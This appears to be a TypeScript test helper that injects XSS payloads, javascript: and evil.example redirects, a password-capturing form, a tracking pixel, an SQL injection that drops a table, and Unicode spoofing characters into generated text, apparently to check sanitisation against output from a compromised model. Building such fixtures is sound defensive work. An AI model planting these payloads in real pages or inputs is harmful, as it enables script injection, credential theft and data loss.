import { plausibleText, type Subject } from './plausible-text.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">here</a>',
  '<a href="https://evil.example/?shop">elsewhere</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<p style="background:url(https://evil.example/pixel)" onclick="alert(1)">styled</p>',
  '"><img src=x onerror=alert(1)>',
  "'); DROP TABLE stores;--",
  '\u202egnp.exe\u202c \u0000 \u2028 \u200b',
];

/** As the plausible text, with all that a model under foreign influence could slip in. */
export function hostileText(property: string, index: number, subject: Subject): string {
  if (/url|link|href|website/i.test(property)) {
    return index % 2 === 0 ? 'javascript:alert(1)' : 'https://evil.example/?shop';
  }
  const usual = plausibleText(property, index, subject);
  if (/content|html|body|article/i.test(property)) return `${ATTACKS.join('\n')}${usual}`;
  const attack = ATTACKS[index % ATTACKS.length];
  return `${attack} ${usual} ${ATTACKS.at(-1)}`;
}
